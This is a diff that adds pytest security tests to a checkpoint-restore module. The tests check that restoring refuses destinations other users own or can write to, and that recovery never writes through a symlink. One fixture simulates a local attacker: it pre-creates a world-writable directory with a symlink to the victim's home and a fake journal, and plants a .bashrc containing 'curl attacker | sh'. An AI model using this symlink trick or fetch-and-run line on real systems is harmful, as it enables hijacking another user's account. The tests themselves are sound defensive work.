@@ -4,8 +4,11 @@ writing outside the restore destination, and a clear error naming the path for e
 
 from __future__ import annotations
 
+import json
 import os
-from collections.abc import Iterator
+import shutil
+import tempfile
+from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
@@ -241,3 +244,141 @@ def test_a_manifest_with_a_path_both_file_and_directory_restores_nothing(
     with pytest.raises(CheckpointCorruptError, match="lists 'a' as a file and 'a/b' below it"):
         cs.restore_files(latest, dest)
     assert read_tree(dest) == {"a": b"old", "other": b"kept"} and sorted(os.listdir(dest)) == ["a", "other"]
+
+
+# -- a destination someone else prepared (issue 23, MEDIUM 3) --------------------------------------------------
+ATTACKER_UID, VICTIM_UID = 64101, 64102
+"""Two unprivileged uids with no account: the suite runs as root and forks each side as its own user."""
+
+
+def _as_user(uid: int, fn: Callable[[], object]) -> str:
+    """Run ``fn`` in a child forked from this (root) process that then becomes ``uid`` (no exec: the
+    interpreter lives in root's home, which another user may not enter); its result or error, as text."""
+    read, write = os.pipe()
+    pid = os.fork()
+    if pid == 0:  # the child: drop to the user, do it, report, exit without running the parent's cleanup
+        code = 1
+        try:
+            os.close(read)
+            os.setgroups([])
+            os.setgid(uid)
+            os.setuid(uid)
+            answer = f"ok: {fn()!r}"
+            code = 0
+        except BaseException as exc:
+            answer = f"{type(exc).__name__}: {exc}"
+        os.write(write, answer.encode("utf-8", "replace")[:65536])
+        os._exit(code)
+    os.close(write)
+    with os.fdopen(read, "rb") as pipe:
+        answer = pipe.read().decode("utf-8")
+    os.waitpid(pid, 0)
+    return answer
+
+
+def _plant(dest: Path, victim_home: Path) -> None:
+    """What the attacker does: a predictable ``--to`` directory, open so the victim can restore into it, with a
+    link to the victim's home and a fake journal of an interrupted restore."""
+    from airflow_stateful.core.data.restore import STAGING_PREFIX
+
+    dest.mkdir()
+    os.chmod(dest, 0o777)
+    (dest / "sub").symlink_to(victim_home)
+    staging = dest / f"{STAGING_PREFIX}0123456789ab"
+    (staging / "old" / "sub").mkdir(parents=True)
+    (staging / "old" / "sub" / ".bashrc").write_text("curl attacker | sh\n")
+    (staging / "journal.json").write_text(
+        json.dumps(
+            {"pid": 2**22 + 7, "files": ["sub/.bashrc"], "existed": [True], "created": [], "removed": []}
+        )
+    )
+    for planted in (staging, staging / "old", staging / "old" / "sub"):
+        os.chmod(planted, 0o777)  # so the victim's process may move entries out of them
+
+
+@pytest.fixture
+def shared_tmp() -> Iterator[Path]:
+    """A directory like /tmp, where both test users may create entries (pytest's tmp_path is root's, 0700)."""
+    if os.geteuid() != 0:
+        pytest.skip(
+            "the cross-user cases fork two unprivileged users, which needs root; this run is not root"
+        )
+    root = Path(tempfile.mkdtemp(prefix="stateful-xuser-"))
+    os.chmod(root, 0o1777)
+    try:
+        yield root
+    finally:
+        shutil.rmtree(root, ignore_errors=True)
+
+
+def test_a_planted_interrupted_restore_never_replaces_files_outside_the_destination(shared_tmp: Path) -> None:
+    """Another local user pre-creates the victim's predictable ``--to`` directory with a link to the victim's
+    home and a fake journal: the victim's recovery must not put the attacker's file in the victim's home."""
+    home = shared_tmp / "victim-home"
+    home.mkdir()
+    (home / ".bashrc").write_text("the victim's own\n")
+    os.chown(home, VICTIM_UID, VICTIM_UID)
+    os.chown(home / ".bashrc", VICTIM_UID, VICTIM_UID)
+    os.chmod(home, 0o755)
+    dest = shared_tmp / "predictable"
+    planted = _as_user(ATTACKER_UID, lambda: _plant(dest, home))
+    assert planted.startswith("ok"), planted
+    from airflow_stateful.core.data.restore import recover_interrupted
+
+    seen = _as_user(VICTIM_UID, lambda: recover_interrupted(dest))
+    print("the victim's recovery:", seen)
+    assert (home / ".bashrc").read_text() == "the victim's own\n", (
+        "the victim's file outside dest was replaced"
+    )
+    assert not (home / ".bashrc").is_symlink()
+
+
+def test_a_restore_refuses_a_destination_another_user_owns_or_others_may_write(
+    store: ObjectStore, tmp_path: Path
+) -> None:
+    cs = CheckpointStore(store=store, identity=IDENTITY)
+    cs.commit(cs.acquire(), {"v": 1}, files=tree(tmp_path / "work", {"a.txt": b"a"}))
+    latest = cs.latest()
+    assert latest is not None
+    open_to_all = tmp_path / "open"
+    open_to_all.mkdir()
+    open_to_all.chmod(0o777)
+    with pytest.raises(
+        InvalidValueError, match=r"writable by group or others \(mode 777\).*shared_dest=True"
+    ):
+        cs.restore_files(latest, open_to_all)
+    assert list(open_to_all.iterdir()) == [], "refused before anything was written"
+    assert cs.restore_files(latest, open_to_all, shared_dest=True), "opting in by name restores"
+    if os.geteuid() == 0:
+        foreign = tmp_path / "foreign"
+        foreign.mkdir()
+        os.chown(foreign, ATTACKER_UID, ATTACKER_UID)
+        with pytest.raises(InvalidValueError, match=rf"owned by uid {ATTACKER_UID}"):
+            cs.restore_files(latest, foreign)
+        assert list(foreign.iterdir()) == []
+
+
+def test_undoing_an_interrupted_restore_never_writes_through_a_link_in_the_destination(
+    tmp_path: Path,
+) -> None:
+    """Even a journal of this user's own (a restore that really was killed) is not followed through a link that
+    appeared in ``dest`` since: the recovery stops, saying which, and writes nothing outside ``dest``."""
+    from airflow_stateful.core.data.restore import STAGING_PREFIX, recover_interrupted
+
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "x").write_text("outside, untouched")
+    dest = tmp_path / "dest"
+    dest.mkdir()
+    (dest / "sub").symlink_to(outside)
+    staging = dest / f"{STAGING_PREFIX}0123456789ab"
+    (staging / "old" / "sub").mkdir(parents=True, mode=0o700)
+    staging.chmod(0o700)
+    (staging / "old" / "sub" / "x").write_text("what the killed restore moved aside")
+    (staging / "journal.json").write_text(
+        json.dumps({"pid": 2**22 + 7, "files": ["sub/x"], "existed": [True], "created": [], "removed": []})
+    )
+    with pytest.raises(InvalidValueError, match=r"sub' is a symbolic link inside"):
+        recover_interrupted(dest)
+    assert (outside / "x").read_text() == "outside, untouched"
+    assert (staging / "old" / "sub" / "x").exists(), "what was moved aside is kept for whoever looks"
